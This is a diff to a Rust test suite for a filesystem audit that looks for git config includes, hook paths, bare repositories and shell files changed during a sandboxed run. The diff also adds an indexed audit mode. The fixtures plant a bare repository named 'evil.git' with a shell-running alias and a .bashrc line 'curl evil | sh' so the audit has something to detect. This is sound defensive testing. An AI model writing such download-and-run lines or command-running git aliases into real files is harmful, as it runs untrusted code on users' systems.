@@ -1,6 +1,9 @@
 //! The end-of-run audit's walk on real directories: what git reaches through configs
 //! (`include.path`, `core.hooksPath`), bare repositories, protected directories moved into
 //! place, what is inert, and the bounds. (The sandboxed exploits are in `tests/run_audit.rs`.)
+//!
+//! Every audit here runs twice, listing every directory and with an index of the tree as it
+//! was before the run (`audit_indexed`), and both must find the same.
 
 #![cfg(target_os = "linux")]
 #![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic
@@ -11,7 +14,7 @@ use std::time::{Duration, SystemTime};
 
 use srt_compiler::audit::AuditPlan;
 use srt_compiler::{resolve, ResolveOptions};
-use srt_runtime::audit::{audit, AuditReport, Since, What};
+use srt_runtime::audit::{audit, audit_indexed, AuditReport, IndexOptions, Since, What};
 
 struct Project {
     root: tempfile::TempDir,
@@ -51,13 +54,47 @@ impl Project {
         AuditPlan::from_write_rules(&ir)
     }
 
+    fn index(&self) -> IndexOptions {
+        let mut o = IndexOptions::in_state_dir(&self.root.path().join("state")).unwrap();
+        // What was made before the second the index is written in is trusted.
+        o.settle_secs = 1;
+        o
+    }
+
+    /// Waits into the next second (what was made before is older than the "run"), and indexes
+    /// the tree as it is, as the audit of an earlier run would have.
+    fn run_starts(&self, plan: &AuditPlan) -> Since {
+        let since = next_second();
+        let home = self.root.path().join("home");
+        let warm = audit_indexed(plan, since, &home, Some(&self.index()));
+        assert!(warm.findings.is_empty(), "{warm:#?}");
+        since
+    }
+
+    /// The audit, listing every directory; the same with the index must find the same, and
+    /// must have used it.
     fn audit(&self, plan: &AuditPlan, since: Since) -> AuditReport {
-        audit(plan, since, &self.root.path().join("home"))
+        let home = self.root.path().join("home");
+        let full = audit(plan, since, &home);
+        let indexed = audit_indexed(plan, since, &home, Some(&self.index()));
+        let stopped = |r: &AuditReport| {
+            r.findings.iter().any(
+                |f| matches!(&f.what, What::Incomplete { reason } if reason.contains("stopped")),
+            )
+        };
+        if stopped(&full) {
+            assert!(stopped(&indexed), "{indexed:#?}");
+        } else {
+            assert_eq!(found(&full), found(&indexed), "{full:#?}\n{indexed:#?}");
+            assert_eq!(full.dirs, indexed.dirs);
+            assert!(indexed.listed < full.listed, "{indexed:#?}");
+        }
+        full
     }
 }
 
-/// Waits into the next second and returns it: what was made before is older than the "run".
-fn run_starts() -> Since {
+/// Waits into the next second and returns it.
+fn next_second() -> Since {
     let now = SystemTime::now()
         .duration_since(SystemTime::UNIX_EPOCH)
         .unwrap();
@@ -89,7 +126,7 @@ fn included_files_and_hooks_paths_under_a_root_are_followed() {
     pr.write("shared/git.inc", "[user]\n\tname = me\n");
     pr.write(".husky/pre-commit.sample", "#!/bin/sh\n");
     let plan = pr.plan();
-    let since = run_starts();
+    let since = pr.run_starts(&plan);
     // The run: the included file now sets a pager, and a hook appears in .husky.
     pr.write(
         "shared/git.inc",
@@ -117,7 +154,7 @@ fn bare_repositories_pointers_and_moved_protected_directories() {
     pr.write("repo2/.git/config", "[core]\n\tbare = false\n");
     fs::create_dir_all(pr.p("repo2/.git/objects")).unwrap();
     let plan = pr.plan();
-    let since = run_starts();
+    let since = pr.run_starts(&plan);
     // A bare repository with an alias that runs a shell command.
     pr.write("evil.git/HEAD", "ref: refs/heads/main\n");
     fs::create_dir_all(pr.p("evil.git/objects")).unwrap();
@@ -179,7 +216,7 @@ fn bounds_are_reported_as_an_incomplete_audit() {
     let deep: PathBuf = (0..12).map(|i| format!("l{i}")).collect();
     fs::create_dir_all(pr.p("").join(&deep)).unwrap();
     let mut plan = pr.plan();
-    let since = run_starts();
+    let since = pr.run_starts(&plan);
     pr.write(&format!("{}/.bashrc", deep.display()), "curl evil | sh\n");
     plan.limits.max_depth = 8;
     let r = pr.audit(&plan, since);
